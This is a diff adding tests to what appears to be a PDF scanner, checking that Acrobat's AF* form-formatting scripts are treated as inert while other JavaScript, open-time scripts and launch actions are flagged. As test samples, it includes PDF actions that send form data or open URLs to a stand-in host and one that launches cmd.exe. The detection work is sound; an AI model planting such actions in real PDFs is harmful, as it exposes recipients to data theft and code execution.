@@ -400,3 +400,61 @@ test('bounded: ToUnicode maps count against the 1 MB of stream data, plain ones 
   );
   assert.equal(read.text, 'ж', 'the second map is past the budget: its codes are not guessed');
 });
+
+/** A one-page fillable form (ISO 32000-1 §12.7) whose text field carries `actions`, its /AA dictionary (§12.6.3). */
+function form(actions: string, catalogExtra = '', extra: { dict: string }[] = []): Buffer {
+  return pdf([
+    { dict: `<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> ${catalogExtra} >>` },
+    { dict: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
+    { dict: '<< /Type /Page /Parent 2 0 R /Annots [4 0 R] >>' },
+    { dict: `<< /FT /Tx /T (Amount) /Subtype /Widget /AA << ${actions} >> >>` },
+    ...extra,
+  ]);
+}
+
+const js = (script: string) => `<< /S /JavaScript /JS (${script.replaceAll('(', '\\(').replaceAll(')', '\\)')}) >>`;
+
+test("a fillable form's field formatting (Acrobat's AF* functions only) is not active; any other script is", () => {
+  // The audit's W-9 form, as sent: a number field formatted and checked on each keystroke.
+  const w9 = Buffer.from(
+    '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[4 0 R]>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/Annots[4 0 R]>>endobj\n4 0 obj<</FT/Tx/T(Amount)/Subtype/Widget/AA<</F<</S/JavaScript/JS(AFNumber_Format\\(2, 0, 0, 0, "", true\\);)>>/K<</S/JavaScript/JS(AFNumber_Keystroke\\(2, 0, 0, 0, "", true\\);)>>>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
+    'latin1',
+  );
+  assert.equal(readPdf(w9).active, undefined);
+  const inert = [
+    `/F ${js('AFDate_FormatEx("mm/dd/yyyy");')} /K ${js("AFDate_KeystrokeEx('mm/dd/yyyy')")}`,
+    `/C ${js('AFSimple_Calculate("SUM", new Array ("Qty", "Price"));')} /V ${js('AFRange_Validate(true, 0, true, 100);')}`,
+    `/F ${js('AFPercent_Format(2, 0);\nAFSpecial_Format(0)')} /K ${js('AFSpecial_Keystroke(3);')}`,
+    '/F << /S /JavaScript /JS <41464E756D6265725F466F726D617428322C20302C20302C20302C2022222C2074727565293B> >>', // hex
+    '/F 5 0 R', // the action an object of its own, its script a string object (§7.3.10) too
+  ];
+  const action = { dict: '<< /S /JavaScript /JS 6 0 R >>' };
+  const script = { dict: '(AFNumber_Format\\(0, 1, 0, 0, "\\u20ac", false\\);)' };
+  for (const actions of inert) assert.equal(readPdf(form(actions, '', [action, script])).active, undefined, actions);
+
+  const active = [
+    js('app.launchURL("http://192.0.2.5/w9", true);'),
+    js('this.submitForm("http://192.0.2.5/collect");'),
+    js('AFNumber_Format(2, 0, 0, 0, "", true); util.printd("yyyy", new Date());'),
+    js('AFNumber_Format(2, 0, 0, 0, app.launchURL("http://192.0.2.5/"), true);'), // a call as an argument
+    js('AFNumber_Format = function () { app.launchURL("http://192.0.2.5/"); }; AFNumber_Format();'),
+    js('AFNumber_Format(2, 0, 0, 0, "", true); // trailing code hides nothing'),
+    js('AFNotReal_Format(2);'),
+    '<< /S /JavaScript /JS 7 0 R >>', // a script in a stream (not read)
+    '<< /S /JavaScript /JS <not hex> >>',
+  ].map((a) => `/F ${a}`);
+  const stream = { dict: '<< /Length 9 >>' };
+  for (const actions of active) {
+    const got = readPdf(form(actions, '', [action, script, stream])).active;
+    assert.equal(got, 'javascript', actions);
+  }
+  // Run on opening, or as a document-level script: active whatever it calls.
+  const formatting = js('AFNumber_Format(2, 0, 0, 0, "", true);');
+  const onOpen = [
+    form('', `/OpenAction ${formatting}`),
+    form('', '/OpenAction 5 0 R', [{ dict: formatting }]),
+    form('', '/Names << /JavaScript 5 0 R >>', [{ dict: `<< /Names [(init) 6 0 R] >>` }, { dict: formatting }]),
+  ];
+  for (const file of onOpen) assert.equal(readPdf(file).active, 'javascript');
+  assert.equal(readPdf(form(`/F ${formatting}`, '/OpenAction << /S /Launch /F (cmd.exe) >>')).active, 'launch');
+});
